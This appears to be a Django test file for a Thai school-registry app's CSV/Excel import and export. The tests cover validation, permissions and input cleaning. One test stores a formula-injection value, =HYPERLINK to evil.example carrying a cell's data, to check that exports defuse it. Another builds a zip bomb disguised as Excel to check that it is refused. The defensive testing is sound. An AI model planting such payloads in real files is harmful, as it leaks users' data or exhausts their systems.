from __future__ import annotations

import csv
import io
import re

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core import tabular
from schools.models import Cluster, School
from schools.tabular import SCHOOL_COLUMNS

HEADERS = [h for h, _, _ in SCHOOL_COLUMNS]


def _row(**values) -> list[str]:
    base = {"รหัสสถานศึกษา": "1099000100", "ชื่อสถานศึกษา": "โรงเรียนนำเข้า", "ระดับที่เปิดสอน": "ประถมศึกษา",
            "อำเภอ": "นาดี", "จำนวนนักเรียน": "90", "กลุ่มโรงเรียน": "กลุ่มนำเข้า", "เปิดสอน": "ใช่"}  # fmt: skip
    base.update(values)
    return [base.get(h, "") for h in HEADERS]


def _csv(*rows: list[str]) -> SimpleUploadedFile:
    return SimpleUploadedFile("schools.csv", tabular.write_csv(HEADERS, rows), content_type="text/csv")


def _xlsx(*rows: list[object]) -> SimpleUploadedFile:
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return SimpleUploadedFile("schools.xlsx", out.getvalue())


def test_a_valid_csv_creates_and_updates_schools_and_clusters(users, client_for, school):
    client = client_for(users["supervisor"])
    upload = _csv(_row(), _row(**{"รหัสสถานศึกษา": school.code, "ชื่อสถานศึกษา": "ชื่อใหม่", "กลุ่มโรงเรียน": ""}))
    response = client.post(
        reverse("schools:school_import"), {"file": upload, "new_clusters": ["กลุ่มนำเข้า"]}, follow=True
    )
    assert "เพิ่มใหม่ 1 รายการ ปรับปรุง 1 รายการ" in response.content.decode()
    new = School.objects.get(code="1099000100")
    assert new.cluster.name == "กลุ่มนำเข้า" and new.level_primary and not new.level_secondary
    school.refresh_from_db()
    assert school.name == "ชื่อใหม่" and school.cluster is None


def test_one_bad_row_saves_nothing_and_lists_every_error_by_row(users, client_for, school):
    client = client_for(users["supervisor"])
    upload = _csv(
        _row(),
        _row(**{"รหัสสถานศึกษา": "12345", "ชื่อสถานศึกษา": "รหัสสั้น"}),
        _row(**{"รหัสสถานศึกษา": "1099000100", "ชื่อสถานศึกษา": "ซ้ำในไฟล์"}),
        _row(**{"รหัสสถานศึกษา": "1099000101", "ระดับที่เปิดสอน": "มหาวิทยาลัย"}),
        _row(**{"รหัสสถานศึกษา": "1099000102", "จำนวนนักเรียน": "หลายคน"}),
    )
    before = (School.objects.count(), Cluster.objects.count())
    response = client.post(reverse("schools:school_import"), {"file": upload, "new_clusters": ["กลุ่มนำเข้า"]})
    html = response.content.decode()
    assert "ยังไม่ได้บันทึกข้อมูลใด ๆ" in html
    assert (School.objects.count(), Cluster.objects.count()) == before  # not even the valid row or the new cluster
    assert "<td>3</td><td>รหัสสถานศึกษา (10 หลัก)</td><td>รหัสสถานศึกษาต้องเป็นตัวเลข 10 หลัก</td>" in html
    assert "รหัส 1099000100 ซ้ำกับแถวที่ 2" in html
    assert "ระดับ “มหาวิทยาลัย” ไม่รู้จัก" in html
    assert "<td>6</td><td>จำนวนนักเรียน</td>" in html


def test_unknown_cluster_is_an_error_until_the_user_ticks_its_name(users, client_for):
    client = client_for(users["supervisor"])
    response = client.post(reverse("schools:school_import"), {"file": _csv(_row())})
    html = response.content.decode()
    assert "ไม่พบกลุ่มโรงเรียน “กลุ่มนำเข้า” ในระบบ" in html
    assert re.search(r'<input[^>]*type="checkbox"[^>]*name="new_clusters"[^>]*value="กลุ่มนำเข้า"', html)
    assert not School.objects.filter(code="1099000100").exists() and not Cluster.objects.filter(name="กลุ่มนำเข้า")
    client.post(reverse("schools:school_import"), {"file": _csv(_row()), "new_clusters": ["กลุ่มนำเข้า"]})
    assert School.objects.get(code="1099000100").cluster.name == "กลุ่มนำเข้า"


def test_a_misspelt_cluster_is_never_created_and_the_right_name_is_suggested(users, client_for):
    Cluster.objects.create(name="กลุ่มโรงเรียนโคกสูง")
    client = client_for(users["supervisor"])
    upload = _csv(_row(**{"กลุ่มโรงเรียน": "กลุ่มโรงเรียนโคกสุง"}))
    html = client.post(reverse("schools:school_import"), {"file": upload}).content.decode()
    assert "ไม่พบกลุ่มโรงเรียน “กลุ่มโรงเรียนโคกสุง” ในระบบ หมายถึง “กลุ่มโรงเรียนโคกสูง” หรือไม่" in html
    assert "กลุ่มโรงเรียนโคกสุง (ใกล้กับ “กลุ่มโรงเรียนโคกสูง” ที่มีอยู่แล้ว)" in html
    # a name the page never offered cannot be smuggled in for another row's cluster
    other = _csv(_row(**{"กลุ่มโรงเรียน": "กลุ่มโรงเรียนโคกสุง"}))
    client.post(reverse("schools:school_import"), {"file": other, "new_clusters": ["อีกกลุ่ม"]})
    assert not Cluster.objects.filter(name__in=["กลุ่มโรงเรียนโคกสุง", "อีกกลุ่ม"]).exists()


def test_a_cluster_merged_into_another_moves_its_schools_and_supervisors(users, client_for, school, other_school):
    right = Cluster.objects.create(name="กลุ่มโรงเรียนโคกสูง")
    typo = Cluster.objects.create(name="กลุ่มโรงเรียนโคกสุง")
    typo.responsible_supervisors.add(users["supervisor"])
    School.objects.filter(pk=school.pk).update(cluster=typo)
    url = reverse("schools:cluster_merge", args=[typo.pk])
    for role in ("clerk", "member", "executive", "school"):
        assert client_for(users[role]).post(url, {"target": right.pk}).status_code in (403, 404)
    client = client_for(users["director"])
    assert client.post(url, {"target": typo.pk}).status_code == 200  # itself is not offered
    response = client.post(url, {"target": right.pk}, follow=True)
    assert "ย้ายสถานศึกษา 1 แห่ง" in response.content.decode()
    school.refresh_from_db()
    assert school.cluster == right and not Cluster.objects.filter(pk=typo.pk).exists()
    assert list(right.responsible_supervisors.all()) == [users["supervisor"]]


def test_xlsx_numbers_get_their_leading_zeros_back(users, client_for):
    row = _row(**{"รหัสสถานศึกษา": 12345678, "รหัส SMIS": 1020304, "กลุ่มโรงเรียน": ""})
    row[HEADERS.index("จำนวนนักเรียน")] = 90
    response = client_for(users["supervisor"]).post(reverse("schools:school_import"), {"file": _xlsx(row)}, follow=True)
    assert "เพิ่มใหม่ 1 รายการ" in response.content.decode()
    s = School.objects.get(code="0012345678")
    assert s.smis_code == "01020304" and s.pupils == 90


def test_files_that_are_not_tables_are_refused_in_thai(users, client_for):
    client = client_for(users["supervisor"])
    bad = SimpleUploadedFile("schools.xlsx", b"not really excel")
    assert "อ่านไฟล์ Excel ไม่ได้" in client.post(reverse("schools:school_import"), {"file": bad}).content.decode()
    txt = SimpleUploadedFile("schools.txt", b"a,b")
    assert (
        "รองรับเฉพาะไฟล์ .csv หรือ .xlsx" in client.post(reverse("schools:school_import"), {"file": txt}).content.decode()
    )
    missing = SimpleUploadedFile("s.csv", "ชื่อ\nก\n".encode())
    assert (
        "ไฟล์ไม่มีคอลัมน์ที่จำเป็น: รหัสสถานศึกษา"
        in client.post(reverse("schools:school_import"), {"file": missing}).content.decode()
    )


def test_export_round_trips_through_import(users, client_for, school, other_school):
    client = client_for(users["supervisor"])
    exported = client.get(reverse("schools:school_export", args=["xlsx"]))
    assert exported["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(exported.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert {r[0] for r in rows[1:]} == {school.code, other_school.code}
    School.objects.filter(pk=school.pk).update(name="เปลี่ยนไปชั่วคราว")
    upload = SimpleUploadedFile("back.xlsx", exported.content)
    response = client.post(reverse("schools:school_import"), {"file": upload}, follow=True)
    assert "ปรับปรุง 2 รายการ" in response.content.decode()
    school.refresh_from_db()
    assert school.name == "โรงเรียนบ้านทดสอบ"
    csv_text = client.get(reverse("schools:school_export", args=["csv"]), {"size": "large"}).content.decode("utf-8-sig")
    assert other_school.code in csv_text and school.code not in csv_text


def test_clusters_import_sets_officers_and_supervisors_all_or_nothing(users, client_for, school, other_school):
    from schools.tabular import CLUSTER_COLUMNS

    headers = [h for h, _ in CLUSTER_COLUMNS]
    client = client_for(users["director"])
    bad = tabular.write_csv(
        headers, [["กลุ่มใหม่", school.code, "", "supervisor", ""], ["กลุ่มเสีย", "1099999999", "", "nobody", ""]]
    )
    html = client.post(reverse("schools:cluster_import"), {"file": SimpleUploadedFile("c.csv", bad)}).content.decode()
    assert "ไม่พบโรงเรียนรหัส 1099999999" in html and "ไม่พบศึกษานิเทศก์ชื่อผู้ใช้: nobody" in html
    assert not Cluster.objects.filter(name="กลุ่มใหม่").exists()
    good = tabular.write_csv(headers, [["กลุ่มใหม่", school.code, other_school.code, "supervisor", "ทดสอบ"]])
    client.post(reverse("schools:cluster_import"), {"file": SimpleUploadedFile("c.csv", good)})
    cluster = Cluster.objects.get(name="กลุ่มใหม่")
    assert (cluster.chair, cluster.vice_chair) == (school, other_school)
    assert list(cluster.responsible_supervisors.all()) == [users["supervisor"]]


def test_only_editors_may_import(users, client_for):
    for role in ("clerk", "member", "executive", "school"):
        assert client_for(users[role]).get(reverse("schools:school_import")).status_code == 403
        assert client_for(users[role]).get(reverse("schools:cluster_import")).status_code == 403


def test_pasted_control_characters_are_cleaned_on_import(users, client_for):
    name = "โรงเรียนวัดพระศรีรัตนศาสดาราม\x0b(ราษฎร์บำรุง)\u200b\x07"
    upload = _csv(_row(**{"ชื่อสถานศึกษา": name, "ผู้บริหารสถานศึกษา": "นางสาวพิมพ์ชนก\tศรีสุวรรณวงศ์\u202e"}))
    response = client_for(users["supervisor"]).post(
        reverse("schools:school_import"), {"file": upload, "new_clusters": ["กลุ่มนำเข้า"]}, follow=True
    )
    assert "เพิ่มใหม่ 1 รายการ" in response.content.decode()
    school = School.objects.get(code="1099000100")
    assert school.name == "โรงเรียนวัดพระศรีรัตนศาสดาราม (ราษฎร์บำรุง)"
    assert school.principal_name == "นางสาวพิมพ์ชนก ศรีสุวรรณวงศ์"


def test_a_file_over_the_row_limit_is_refused_in_thai_and_nothing_is_saved(users, client_for):
    rows = [_row(**{"รหัสสถานศึกษา": f"{1099100000 + n:010d}", "กลุ่มโรงเรียน": ""}) for n in range(20001)]
    response = client_for(users["supervisor"]).post(reverse("schools:school_import"), {"file": _csv(*rows)})
    assert "นำเข้าได้ครั้งละไม่เกิน 20,000 แถว" in response.content.decode()
    assert not School.objects.filter(code__startswith="10991").exists()


def test_a_zip_bomb_posing_as_excel_is_refused_in_thai(users, client_for):
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(500):
                sheet.write(b"<row><c><v>1</v></c></row>" * 10_000)
    upload = SimpleUploadedFile("schools.xlsx", out.getvalue())
    response = client_for(users["supervisor"]).post(reverse("schools:school_import"), {"file": upload})
    assert response.status_code == 200
    assert "เกิน 50 MB ที่นำเข้าได้" in response.content.decode()


def test_exports_write_formula_like_text_as_text_and_a_phone_number_round_trips(users, client_for, school):
    School.objects.filter(pk=school.pk).update(
        name='=HYPERLINK("http://evil.example/?d="&A1,"โรงเรียนบ้านทดสอบ")',
        phone="+66 44 123 456",
        principal_name="@นายสมชาย",
    )
    client = client_for(users["supervisor"])
    xlsx = client.get(reverse("schools:school_export", args=["xlsx"])).content
    cells = [c for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert '=HYPERLINK("http://evil.example/?d="&A1,"โรงเรียนบ้านทดสอบ")' in [c.value for c in cells]

    text = client.get(reverse("schools:school_export", args=["csv"])).content.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == school.code)
    named = dict(zip(HEADERS, row, strict=True))
    assert named["ชื่อสถานศึกษา"].startswith("'=HYPERLINK(")
    assert (named["โทรศัพท์"], named["ผู้บริหารสถานศึกษา"]) == ("'+66 44 123 456", "'@นายสมชาย")

    School.objects.filter(pk=school.pk).update(phone="", principal_name="")
    client.post(reverse("schools:school_import"), {"file": SimpleUploadedFile("back.csv", text.encode("utf-8-sig"))})
    school.refresh_from_db()
    assert (school.phone, school.principal_name) == (
        "+66 44 123 456",
        "@นายสมชาย",
    )  # the apostrophe is the file's, not the data's


def test_exports_download_under_thai_names_with_the_buddhist_year(users, client_for, school):
    from urllib.parse import unquote

    from django.utils import timezone

    today = timezone.localdate()
    stamp = f"{today.year + 543}-{today:%m-%d}"
    client = client_for(users["supervisor"])
    for url, thai, ascii_name in [
        (reverse("schools:school_export", args=["xlsx"]), "ทะเบียนสถานศึกษา", "schools"),
        (reverse("schools:cluster_export", args=["csv"]), "กลุ่มโรงเรียน", "clusters"),
    ]:
        header = client.get(url)["Content-Disposition"]
        ext = url.rsplit(".", 1)[1]
        assert f'filename="{ascii_name}-{stamp}.{ext}"' in header
        assert unquote(header.split("filename*=UTF-8''")[1]) == f"{thai}-{stamp}.{ext}"


def test_the_school_export_types_its_cells(users, client_for, school):
    from decimal import Decimal

    school.latitude, school.longitude, school.phone = Decimal("15.123456"), Decimal("102.654321"), "0 4461 2345"
    school.save()
    body = client_for(users["supervisor"]).get(reverse("schools:school_export", args=["xlsx"])).content
    cells = dict(zip(HEADERS, load_workbook(io.BytesIO(body)).active[2], strict=False))
    assert (cells["รหัสสถานศึกษา"].data_type, cells["รหัสสถานศึกษา"].number_format) == ("s", "@")
    assert (cells["โทรศัพท์"].data_type, cells["โทรศัพท์"].number_format) == ("s", "@")
    assert (cells["ละติจูด"].data_type, cells["ละติจูด"].value) == ("n", 15.123456)
    assert (cells["จำนวนนักเรียน"].data_type, cells["จำนวนนักเรียน"].value) == ("n", 80)
